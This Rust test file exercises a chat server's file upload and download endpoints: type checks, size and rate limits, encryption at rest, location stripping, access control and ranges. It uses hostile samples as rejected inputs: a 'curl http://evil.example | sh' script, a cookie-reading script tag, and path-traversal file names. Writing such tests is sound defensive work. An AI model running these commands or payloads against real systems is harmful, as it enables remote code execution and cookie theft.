//! Uploads and downloads against the real server, with real files the test makes
//! (a PNG with valid chunks and CRCs, a JPEG, a PDF): types decided from the
//! content, spoofed types, size limits with and without `Content-Length`,
//! path-like names, the rate limit and the quota, encryption at rest, who may
//! download, byte ranges, and files attached to messages.

mod common;

use std::net::SocketAddr;

use common::images::*;
use common::*;
#[allow(unused_imports)]
use serde_json as _;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

// ---- files the test makes (images: tests/common/images.rs) ----

/// A PDF with `filler` bytes of body text in its one stream.
fn pdf(filler: usize) -> Vec<u8> {
    let text: String = (0..filler)
        .map(|i| (b'a' + (i * 31 % 26) as u8) as char)
        .collect();
    format!(
        "%PDF-1.4\n1 0 obj << /Length {} >>\nstream\n{text}\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        text.len()
    )
    .into_bytes()
}

// ---- raw HTTP with binary bodies ----

struct Reply {
    status: u16,
    head: String,
    body: Vec<u8>,
}

impl Reply {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }
    fn code(&self) -> String {
        self.json()["error"]["code"]
            .as_str()
            .unwrap_or("")
            .to_owned()
    }
    fn header(&self, name: &str) -> Option<String> {
        let name = format!("{}:", name.to_ascii_lowercase());
        self.head
            .lines()
            .find(|l| l.to_ascii_lowercase().starts_with(&name))
            .map(|l| l[name.len()..].trim().to_owned())
    }
}

async fn read_reply(mut s: TcpStream) -> Reply {
    let mut raw = Vec::new();
    tokio::time::timeout(WAIT, s.read_to_end(&mut raw))
        .await
        .expect("response in time")
        .ok();
    let end = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a response head");
    let head = String::from_utf8_lossy(&raw[..end]).into_owned();
    let status = head
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let mut body = raw[end + 4..].to_vec();
    if head
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked")
    {
        body = dechunk_bytes(&body);
    }
    Reply { status, head, body }
}

fn dechunk_bytes(mut rest: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    while let Some(i) = rest.windows(2).position(|w| w == b"\r\n") {
        let n = usize::from_str_radix(std::str::from_utf8(&rest[..i]).unwrap().trim(), 16).unwrap();
        if n == 0 {
            break;
        }
        out.extend_from_slice(&rest[i + 2..i + 2 + n]);
        rest = &rest[i + 4 + n..];
    }
    out
}

/// `POST /chatbox/upload` with `extra` header lines and a body sent whole.
async fn post(addr: SocketAddr, token: Option<&str>, extra: &str, body: &[u8]) -> Reply {
    let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
    let head = format!(
        "POST /chatbox/upload{extra}Host: x\r\n{auth}Content-Length: {}\r\n\r\n",
        body.len()
    );
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(head.as_bytes()).await.unwrap();
    s.write_all(body).await.unwrap();
    read_reply(s).await
}

/// A raw upload: `?name=` and a declared type the server must ignore.
async fn upload_raw(
    addr: SocketAddr,
    token: &str,
    name: &str,
    declared: &str,
    body: &[u8],
) -> Reply {
    let q: String = form_urlencoded::byte_serialize(name.as_bytes()).collect();
    let extra = format!("?name={q} HTTP/1.1\r\nContent-Type: {declared}\r\n");
    post(addr, Some(token), &extra, body).await
}

/// A multipart upload with one `file` part (and a field that is not a file).
async fn upload_multipart(
    addr: SocketAddr,
    token: &str,
    name: &str,
    declared: &str,
    data: &[u8],
) -> Reply {
    let b = "----chatbox-test-boundary";
    let mut body = format!(
        "--{b}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n\
         --{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
         Content-Type: {declared}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(data);
    body.extend_from_slice(format!("\r\n--{b}--\r\n").as_bytes());
    let extra = format!(" HTTP/1.1\r\nContent-Type: multipart/form-data; boundary={b}\r\n");
    post(addr, Some(token), &extra, &body).await
}

async fn fetch(addr: SocketAddr, token: Option<&str>, id: &str, extra: &str) -> Reply {
    let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
    let req = format!("GET /chatbox/files/{id} HTTP/1.1\r\nHost: x\r\n{auth}{extra}\r\n");
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(req.as_bytes()).await.unwrap();
    read_reply(s).await
}

fn sha256_hex(data: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(data))
}

fn admin() -> String {
    token_with("agent-1", &["admin"], chatbox::auth::now_secs() + 3600)
}

// ---- item 1: the upload endpoint ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_typed_by_content_and_named_safely() {
    let cfg = config();
    let server = start(cfg.clone());
    let addr = server.local_addr();
    let alice = token("alice");

    let image = png(40, 30);
    let r = upload_raw(
        addr,
        &alice,
        "screen shot.png",
        "application/octet-stream",
        &image,
    )
    .await;
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
    let v = r.json();
    assert_eq!(v["mime"], "image/png");
    assert_eq!(v["size"], image.len());
    assert_eq!(v["sha256"], sha256_hex(&image));
    assert!(v["file_id"].as_str().unwrap().starts_with("f_"));
    assert_eq!(v["name"], "screen shot.png");

    // Multipart, declared as something else entirely: the content decides.
    let r = upload_multipart(addr, &alice, "photo.gif", "image/gif", &jpeg()).await;
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(r.json()["mime"], "image/jpeg");
    let doc = pdf(3000);
    let r = upload_multipart(addr, &alice, "invoice.pdf", "text/plain", &doc).await;
    assert_eq!(r.status, 201);
    assert_eq!(r.json()["mime"], "application/pdf");
    assert_eq!(r.json()["sha256"], sha256_hex(&doc));

    // Spoofed: a script named .png, HTML declared image/png, plain text.
    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n";
    let r = upload_multipart(addr, &alice, "cute-cat.png", "image/png", script).await;
    assert_eq!(
        (r.status, r.code().as_str()),
        (415, "unsupported_media_type")
    );
    let html = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>";
    let r = upload_raw(addr, &alice, "x.png", "image/png", html).await;
    assert_eq!(r.status, 415);
    assert!(r.json()["error"]["message"]
        .as_str()
        .unwrap()
        .contains("image/png"));
    let r = upload_raw(addr, &alice, "empty.png", "image/png", b"").await;
    assert_eq!(r.status, 400);
    // A recorder stopped at once: a WebM header and no sound. Refused, and told
    // why (found by the widget's microphone test).
    let mut header_only = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm".to_vec();
    header_only.resize(217, 0);
    let r = upload_raw(addr, &alice, "voice-note.webm", "audio/webm", &header_only).await;
    assert_eq!(r.status, 415);
    assert!(
        String::from_utf8_lossy(&r.body).contains("too short (217 bytes)"),
        "{:?}",
        r.json()
    );

    // Path-like names are kept only as a base name, never as a path.
    for (raw, shown) in [
        ("../../../etc/passwd.png", "passwd.png"),
        ("..\\..\\win.ini.png", "win.ini.png"),
        ("/tmp/x/../a.png", "a.png"),
    ] {
        let r = upload_multipart(addr, &alice, raw, "image/png", &png(2, 2)).await;
        assert_eq!(r.status, 201);
        assert_eq!(r.json()["name"], shown, "{raw}");
    }
    assert!(!cfg.data_dir.join("etc").exists());
    for f in files_under(&cfg.data_dir.join("files")) {
        let name = f.file_name().unwrap().to_string_lossy().into_owned();
        assert!(name.starts_with("f_") && name.ends_with(".cbf"), "{name}");
    }
    for id in stores::ids_at_rest(&cfg).await {
        assert!(id.starts_with("f_"), "{id}");
    }

    // Tokens: none, or a bad one, is 401; an admin may upload too.
    let r = post(addr, None, " HTTP/1.1\r\n", &png(2, 2)).await;
    assert_eq!((r.status, r.code().as_str()), (401, "unauthorized"));
    assert_eq!(r.header("www-authenticate").as_deref(), Some("Bearer"));
    let r = post(addr, Some("not-a-jwt"), " HTTP/1.1\r\n", &png(2, 2)).await;
    assert_eq!(r.status, 401);
    let r = upload_raw(addr, &admin(), "a.png", "image/png", &png(3, 3)).await;
    assert_eq!(r.status, 201);
    server.shutdown();
    stop(server).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversize_uploads_are_refused_with_and_without_content_length() {
    let cfg = chatbox::Config {
        upload_bytes_max: 100_000,
        ..config()
    };
    let server = start(cfg.clone());
    let addr = server.local_addr();
    let t = token("bob");

    // Content-Length over the limit: 413 without a byte of the body sent (the
    // server answers; the client never sends it).
    for declared in [100_001u64, 50_000_000] {
        let mut s = TcpStream::connect(addr).await.unwrap();
        let head = format!(
            "POST /chatbox/upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {t}\r\n\
             Content-Length: {declared}\r\n\r\n"
        );
        s.write_all(head.as_bytes()).await.unwrap();
        let r = read_reply(s).await;
        assert_eq!(
            (r.status, r.code().as_str()),
            (413, "payload_too_large"),
            "{declared}"
        );
    }

    // No Content-Length (chunked): refused once the stream passes the limit.
    let big = png(400, 300); // 120 kB
    assert!(big.len() > 100_000);
    let mut s = TcpStream::connect(addr).await.unwrap();
    let head = format!(
        "POST /chatbox/upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {t}\r\n\
         Transfer-Encoding: chunked\r\n\r\n"
    );
    s.write_all(head.as_bytes()).await.unwrap();
    for part in big.chunks(16 * 1024) {
        s.write_all(format!("{:x}\r\n", part.len()).as_bytes())
            .await
            .unwrap();
        s.write_all(part).await.unwrap();
        s.write_all(b"\r\n").await.unwrap();
    }
    s.write_all(b"0\r\n\r\n").await.unwrap();
    let r = read_reply(s).await;
    assert_eq!((r.status, r.code().as_str()), (413, "payload_too_large"));
    // Multipart over the limit, too.
    let r = upload_multipart(addr, &t, "big.png", "image/png", &big).await;
    assert_eq!(r.status, 413);

    // Under the limit, chunked works; nothing of the refused ones was kept.
    let small = png(100, 100);
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(head.as_bytes()).await.unwrap();
    s.write_all(format!("{:x}\r\n", small.len()).as_bytes())
        .await
        .unwrap();
    s.write_all(&small).await.unwrap();
    s.write_all(b"\r\n0\r\n\r\n").await.unwrap();
    let r = read_reply(s).await;
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
    server.shutdown();
    stop(server).await;
    let kept = stores::ids_at_rest(&cfg).await;
    assert_eq!(kept.len(), 1, "{kept:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_rate_limited_and_count_against_a_quota() {
    let cfg = chatbox::Config {
        upload_rate_limit_per_minute: 2,
        upload_quota_bytes: 30_000,
        ..config()
    };
    let server = start(cfg);
    let addr = server.local_addr();

    // Two cores, two per minute each: five in a row cannot all pass.
    let t = token("carol");
    let mut statuses = Vec::new();
    for _ in 0..5 {
        let r = upload_raw(addr, &t, "a.png", "image/png", &png(4, 4)).await;
        if r.status == 429 {
            assert_eq!(r.code(), "rate_limited");
            assert!(r.header("retry-after").is_some());
        }
        statuses.push(r.status);
    }
    assert!(statuses.contains(&429), "{statuses:?}");

    // 20 kB fits in 30 kB; another 20 kB does not; a small one still does.
    let d = token("dave");
    let r = upload_raw(addr, &d, "a.png", "image/png", &png(140, 140)).await;
    assert_eq!(r.status, 201);
    let r = upload_raw(addr, &d, "b.png", "image/png", &png(140, 140)).await;
    assert_eq!((r.status, r.code().as_str()), (413, "quota_exceeded"));
    let r = upload_raw(addr, &token("erin"), "b.png", "image/png", &png(140, 140)).await;
    assert_eq!(r.status, 201, "another user's quota is their own");
    server.shutdown();
    stop(server).await;
}

// ---- item 2: encrypted at rest ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_are_encrypted_at_rest_and_recorded() {
    let cfg = config();
    let server = start(cfg.clone());
    let addr = server.local_addr();
    let doc = pdf(300_000); // several chunks
    let r = upload_raw(
        addr,
        &token("fred"),
        "secret plans.pdf",
        "application/pdf",
        &doc,
    )
    .await;
    assert_eq!(r.status, 201);
    let id = r.json()["file_id"].as_str().unwrap().to_owned();
    server.shutdown();
    stop(server).await;

    // Read where the bytes rest (the data directory, the bucket with a plain
    // GET, the GridFS chunks), without the server.
    let stored = stores::ids_at_rest(&cfg).await;
    assert_eq!(stored, std::slice::from_ref(&id));
    let bytes = stores::at_rest(&cfg, &id).await.expect("the object");
    assert!(
        bytes.len() > doc.len(),
        "sealed chunks carry nonces and tags"
    );
    for probe in [&doc[..5], &doc[1000..1032], &doc[200_000..200_032]] {
        assert!(
            !bytes.windows(probe.len()).any(|w| w == probe),
            "plaintext on disk"
        );
    }
    let cfg_rest = cfg.clone();
    let rec = tokio::task::spawn_blocking(move || {
        let (rt, store) = open_store(&cfg);
        let rec = futures_block(store.file(&id));
        drop(store);
        rt.shutdown(std::time::Duration::from_secs(5));
        rec
    })
    .await
    .unwrap()
    .unwrap()
    .expect("a record");
    assert_eq!(rec.owner, "fred");
    assert_eq!(rec.mime, "application/pdf");
    assert_eq!(rec.size, doc.len() as u64);
    assert_eq!(rec.sha256, sha256_hex(&doc));
    assert_eq!(rec.name.as_deref(), Some("secret plans.pdf"));
    assert_eq!(rec.location, stores::store_name(&cfg_rest));
}

fn futures_block<T>(f: chatbox::store::StoreFuture<T>) -> Result<T, chatbox::store::StoreError> {
    tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap()
        .block_on(f)
}

// ---- item 3: downloads ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slow_upload_gets_the_file_transfer_time_not_the_request_time() {
    let cfg = chatbox::config::Config {
        http_request_timeout_ms: 100,
        http_head_timeout_ms: 100,
        ..config()
    };
    let server = start(cfg);
    let addr = server.local_addr();
    let doc = pdf(200_000);
    let head = format!(
        "POST /chatbox/upload?name=slow.pdf HTTP/1.1\r\nHost: x\r\n\
         Authorization: Bearer {}\r\nContent-Length: {}\r\n\r\n",
        token("lou"),
        doc.len()
    );
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(head.as_bytes()).await.unwrap();
    s.write_all(&doc[..1000]).await.unwrap();
    // A client on a slow link: the rest comes well after http_request_timeout_ms
    // (the pause is the behaviour under test, not a synchronisation).
    tokio::time::sleep(std::time::Duration::from_millis(400)).await;
    s.write_all(&doc[1000..]).await.unwrap();
    let r = read_reply(s).await;
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
    // Other requests keep the short timeout: a head that never ends is cut.
    let mut idle = TcpStream::connect(addr).await.unwrap();
    idle.write_all(b"GET /chatbox/healthz HTTP/1.1\r\n")
        .await
        .unwrap();
    let cut = read_reply(idle).await;
    assert_eq!(cut.status, 408);
    server.shutdown();
    stop(server).await;
}

/// GPS fields and the orientation an independent EXIF reader finds in `file`.
fn exif_of(file: &[u8]) -> (usize, Option<u32>) {
    let exif = exif::Reader::new()
        .read_from_container(&mut std::io::Cursor::new(file))
        .expect("readable EXIF");
    let gps = exif
        .fields()
        .filter(|f| f.tag.context() == exif::Context::Gps)
        .count();
    let orientation = exif
        .get_field(exif::Tag::Orientation, exif::In::PRIMARY)
        .and_then(|f| f.value.get_uint(0));
    (gps, orientation)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn images_lose_their_location_before_they_are_stored() {
    let server = start(config());
    let addr = server.local_addr();
    let ines = token("ines");
    let photos = [
        ("photo.jpg", jpeg_with(true)),
        ("shot.png", png_with(64, 48, true)),
        ("sticker.webp", webp_with(true)),
    ];
    for (name, photo) in photos {
        assert_eq!(exif_of(&photo), (2, Some(u32::from(ORIENTATION))), "{name}");
        let r = upload_multipart(addr, &ines, name, "image/png", &photo).await;
        assert_eq!(
            r.status,
            201,
            "{name}: {}",
            String::from_utf8_lossy(&r.body)
        );
        let v = r.json();
        let stored = fetch(addr, Some(&ines), v["file_id"].as_str().unwrap(), "").await;
        assert_eq!(stored.status, 200);
        let body = &stored.body;
        assert_eq!(exif_of(body), (0, Some(u32::from(ORIENTATION))), "{name}");
        assert!(
            !contains(body, XMP_LOCATION.as_bytes()),
            "{name}: XMP stayed"
        );
        // What was answered describes what is stored.
        assert_eq!(v["size"], json!(body.len()), "{name}");
        assert_eq!(v["sha256"], json!(sha256_hex(body)), "{name}");
    }
    let (_, _, metrics) = get(addr, "/chatbox/metrics").await;
    assert!(
        metrics.contains("\nchatbox_upload_locations_removed_total 3\n"),
        "{metrics}"
    );
    assert!(metrics.contains("\nchatbox_uploads_total 3\n"), "{metrics}");
    // An image whose metadata cannot be walked to its end is refused, clearly.
    let photo = jpeg_with(true);
    let r = upload_raw(addr, &ines, "cut.jpg", "image/jpeg", &photo[..40]).await;
    assert_eq!((r.status, r.code().as_str()), (400, "bad_request"));
    assert!(
        String::from_utf8_lossy(&r.body).contains("location"),
        "{:?}",
        r.json()
    );
    let (_, _, metrics) = get(addr, "/chatbox/metrics").await;
    assert!(
        metrics.contains("\nchatbox_uploads_refused_total 1\n"),
        "{metrics}"
    );
    server.shutdown();
    stop(server).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn owners_and_admins_download_everyone_else_gets_404() {
    let server = start(config());
    let addr = server.local_addr();
    let gina = token("gina");
    let doc = pdf(150_000); // three chunks
    let r = upload_raw(addr, &gina, "../report \"Q3\".pdf", "image/png", &doc).await;
    assert_eq!(r.status, 201);
    let id = r.json()["file_id"].as_str().unwrap().to_owned();

    let r = fetch(addr, Some(&gina), &id, "").await;
    assert_eq!(r.status, 200);
    assert_eq!(r.body, doc);
    assert_eq!(r.header("content-type").as_deref(), Some("application/pdf"));
    assert_eq!(
        r.header("x-content-type-options").as_deref(),
        Some("nosniff")
    );
    assert_eq!(
        r.header("content-security-policy").as_deref(),
        Some("default-src 'none'; sandbox")
    );
    let disposition = r.header("content-disposition").unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"report Q3.pdf\""),
        "{disposition}"
    );
    assert_eq!(r.header("accept-ranges").as_deref(), Some("bytes"));
    let r = fetch(addr, Some(&admin()), &id, "").await;
    assert_eq!(r.status, 200, "an admin may download");
    assert_eq!(r.body, doc);

    // Another user: exactly what a file that does not exist looks like.
    let other = fetch(addr, Some(&token("hank")), &id, "").await;
    let missing = fetch(addr, Some(&gina), "f_00000000000000000000000000", "").await;
    assert_eq!((other.status, missing.status), (404, 404));
    assert_eq!(other.body, missing.body);
    for weird in ["..%2F..%2Fchatbox.db", "%00", "a%2Fb"] {
        assert_eq!(
            fetch(addr, Some(&gina), weird, "").await.status,
            404,
            "{weird}"
        );
    }
    assert_eq!(fetch(addr, None, &id, "").await.status, 401);

    // Ranges: inside one chunk, across a chunk boundary, the tail; outside: 416.
    for (range, first, last) in [
        ("bytes=10-19", 10usize, 19usize),
        ("bytes=65530-65545", 65_530, 65_545),
        ("bytes=-100", doc.len() - 100, doc.len() - 1),
        ("bytes=140000-", 140_000, doc.len() - 1),
    ] {
        let r = fetch(addr, Some(&gina), &id, &format!("Range: {range}\r\n")).await;
        assert_eq!(r.status, 206, "{range}");
        assert_eq!(r.body, &doc[first..=last], "{range}");
        assert_eq!(
            r.header("content-range"),
            Some(format!("bytes {first}-{last}/{}", doc.len())),
            "{range}"
        );
    }
    let r = fetch(addr, Some(&gina), &id, "Range: bytes=999999-\r\n").await;
    assert_eq!(r.status, 416);
    assert_eq!(
        r.header("content-range"),
        Some(format!("bytes */{}", doc.len()))
    );
    server.shutdown();
    stop(server).await;
}

// ---- item 4: file messages ----

/// Frames until `kind`, all of them (that one last).
async fn frames_until(ws: &mut Ws, kind: &str) -> Vec<Value> {
    let (last, mut before) = until(ws, kind).await;
    before.push(last);
    before
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn file_messages_attach_the_users_own_files_to_sessions() {
    use chatbox::config::LlmProvider;
    use common::fake_llm;
    let answer = fake_llm::stream(fake_llm::openai_events(&["Looks", " fine"], None), 0);
    let fake = fake_llm::Fake::start(vec![answer]).await;
    let cfg = fake_llm::with_models(vec![fake_llm::model("m", LlmProvider::Openai, &fake)]);
    let rest = cfg.clone();
    let server = start(cfg);
    let addr = server.local_addr();
    let image = png(64, 48);
    let r = upload_raw(addr, &token("ivy"), "error dialog.png", "image/png", &image).await;
    let fid = r.json()["file_id"].as_str().unwrap().to_owned();
    let r = upload_raw(addr, &token("jack"), "j.png", "image/png", &png(5, 5)).await;
    let jacks = r.json()["file_id"].as_str().unwrap().to_owned();
    let expected = json!({"file_id": fid, "mime": "image/png", "size": image.len(), "name": "error dialog.png"});

    // Someone else's file, and no file at all: the same not_found.
    let mut ws = connect_user(addr, "ivy").await;
    for (other, id) in [(jacks.as_str(), "x1"), ("f_nope", "x2")] {
        send(
            &mut ws,
            json!({"type": "file_message", "file_id": other, "id": id}),
        )
        .await;
        let e = until(&mut ws, "error").await.0;
        assert_eq!(
            (e["code"].as_str(), e["id"].as_str()),
            (Some("not_found"), Some(id))
        );
    }

    // Its own file: a new session, acked, answered; the model is told in words.
    let m = json!({"type": "file_message", "file_id": fid, "content": "what does this mean?", "id": "c1"});
    send(&mut ws, m).await;
    let seen = frames_until(&mut ws, "ai_done").await;
    let sid = seen.iter().find(|f| f["type"] == "session").unwrap()["session_id"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        seen.iter().any(|f| f["type"] == "ack" && f["id"] == "c1"),
        "{seen:?}"
    );
    let told = fake.requests()[0].body["messages"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()["content"]
        .as_str()
        .unwrap()
        .to_owned();
    for part in ["error dialog.png", "image/png", "what does this mean?"] {
        assert!(told.contains(part), "{told}");
    }

    // An admin in the session sees the next one with its file.
    let mut a = connect(addr, "/ws", Some(&admin()), None).await.unwrap();
    send(&mut a, json!({"type": "admin_join", "session_id": sid})).await;
    until(&mut ws, "admin_joined").await;
    let m = json!({"type": "file_message", "session_id": sid, "file_id": fid, "id": "c2"});
    send(&mut ws, m).await;
    let relay = until(&mut a, "user_message").await.0;
    assert_eq!(relay["file"], expected);
    assert_eq!(relay["content"], "");
    let ack = until(&mut ws, "ack").await.0;
    assert_eq!(ack["id"], "c2");

    // History on resume, and the admin transcript and export, carry the file.
    let mut again = connect_user(addr, "ivy").await;
    send(&mut again, json!({"type": "resume", "session_id": sid})).await;
    let history = until(&mut again, "session").await.0["messages"].clone();
    let with_file: Vec<&Value> = history
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["file"] == expected)
        .collect();
    assert_eq!(with_file.len(), 2, "{history}");
    assert_eq!(with_file[0]["content"], "what does this mean?");
    assert_eq!(with_file[0]["role"], "user");
    let (status, transcript) = admin_call(addr, "GET", &format!("/sessions/{sid}"), &admin()).await;
    assert_eq!(status, 200);
    let files: Vec<&Value> = transcript["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|m| m.get("file"))
        .collect();
    assert_eq!(files, [&expected, &expected]);
    let (status, export) = admin_call(addr, "GET", "/users/ivy/export", &admin()).await;
    assert_eq!(status, 200);
    assert!(export.to_string().contains(&fid), "{export}");
    // The admin fetches what the transcript names.
    let r = fetch(addr, Some(&admin()), &fid, "").await;
    assert_eq!((r.status, r.body), (200, image));

    // Deleting the user deletes their files, bytes and records; not jack's.
    assert!(stores::at_rest(&rest, &fid).await.is_some());
    let (status, _) = admin_call(addr, "DELETE", "/users/ivy", &admin()).await;
    assert_eq!(status, 200);
    assert!(
        stores::at_rest(&rest, &fid).await.is_none(),
        "the bytes are gone"
    );
    assert_eq!(fetch(addr, Some(&admin()), &fid, "").await.status, 404);
    assert!(stores::at_rest(&rest, &jacks).await.is_some());
    server.shutdown();
    stop(server).await;
}

/// A raw request to the server; the whole reply.
async fn raw(addr: SocketAddr, req: &str) -> Reply {
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(req.as_bytes()).await.unwrap();
    read_reply(s).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_widget_on_an_allowed_origin_uploads_and_downloads_across_origins() {
    let mut cfg = config();
    cfg.allowed_origins = vec!["https://shop.example".into()];
    let server = start(cfg);
    let addr = server.local_addr();
    let shop = "Origin: https://shop.example\r\n";
    let evil = "Origin: https://evil.example\r\n";
    let preflight = |path: &str, method: &str, origin: &str| {
        format!(
            "OPTIONS /chatbox{path} HTTP/1.1\r\nHost: x\r\n{origin}\
             Access-Control-Request-Method: {method}\r\n\
             Access-Control-Request-Headers: authorization, content-type\r\n\r\n"
        )
    };
    let r = raw(addr, &preflight("/upload", "POST", shop)).await;
    assert_eq!(r.status, 204, "{}", r.head);
    assert_eq!(
        r.header("access-control-allow-origin").as_deref(),
        Some("https://shop.example")
    );
    assert!(r
        .header("access-control-allow-methods")
        .unwrap()
        .contains("POST"));
    assert!(r
        .header("access-control-allow-headers")
        .unwrap()
        .contains("authorization"));
    assert!(r.header("access-control-allow-credentials").is_none());
    // Another origin gets no CORS header: the browser keeps the answer from it.
    let r = raw(addr, &preflight("/files/f_x", "GET", evil)).await;
    assert_eq!(r.status, 204);
    assert!(
        r.header("access-control-allow-origin").is_none(),
        "{}",
        r.head
    );
    // The upload itself, from the shop's page, is readable by it.
    let extra = format!("?name=a.png HTTP/1.1\r\n{shop}");
    let up = post(addr, Some(&token("widget")), &extra, &png(2, 2)).await;
    assert_eq!(up.status, 201, "{}", up.head);
    assert_eq!(
        up.header("access-control-allow-origin").as_deref(),
        Some("https://shop.example")
    );
    assert_eq!(up.header("vary").as_deref(), Some("origin"));
    let id = up.json()["file_id"].as_str().unwrap().to_owned();
    let got = fetch(addr, Some(&token("widget")), &id, shop).await;
    assert_eq!(got.status, 200);
    assert!(got
        .header("access-control-expose-headers")
        .unwrap()
        .contains("content-disposition"));
    let got = fetch(addr, Some(&token("widget")), &id, evil).await;
    assert_eq!(
        got.status, 200,
        "the token decides access; CORS only what a page may read"
    );
    assert!(got.header("access-control-allow-origin").is_none());
    server.shutdown();
    stop(server).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stored_file_that_cannot_be_read_is_an_error_not_a_hang() {
    let cfg = config();
    // The objects are broken by hand on local disk; what is checked (how a read
    // failure reaches the client) is the same whichever store failed.
    if stores::store_name(&cfg) != "local" {
        return;
    }
    let data_dir = cfg.data_dir.clone();
    let server = start(cfg);
    let addr = server.local_addr();
    let owner = token("mo");
    let doc = pdf(150_000); // three chunks
    let mut ids = Vec::new();
    for _ in 0..2 {
        let r = upload_raw(addr, &owner, "doc.pdf", "application/pdf", &doc).await;
        ids.push(r.json()["file_id"].as_str().unwrap().to_owned());
    }
    let object = |id: &str| {
        files_under(&data_dir.join("files"))
            .into_iter()
            .find(|p| p.to_string_lossy().contains(id))
            .unwrap()
    };
    // Gone before anything was sent: a clear 503, at once.
    std::fs::remove_file(object(&ids[0])).unwrap();
    let r = fetch(addr, Some(&owner), &ids[0], "").await;
    assert_eq!((r.status, r.code().as_str()), (503, "unavailable"));
    assert!(String::from_utf8_lossy(&r.body).contains("could not be read"));
    // Broken after the first chunk: the body is cut short, visibly (fewer bytes
    // than Content-Length), and the connection ends.
    let path = object(&ids[1]);
    let len = std::fs::metadata(&path).unwrap().len();
    let f = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
    f.set_len(len - 10).unwrap();
    let r = fetch(addr, Some(&owner), &ids[1], "").await;
    assert_eq!(r.status, 200);
    assert!(r.body.len() < doc.len(), "{} bytes", r.body.len());
    assert_eq!(r.body[..], doc[..r.body.len()]);
    server.shutdown();
    stop(server).await;
}
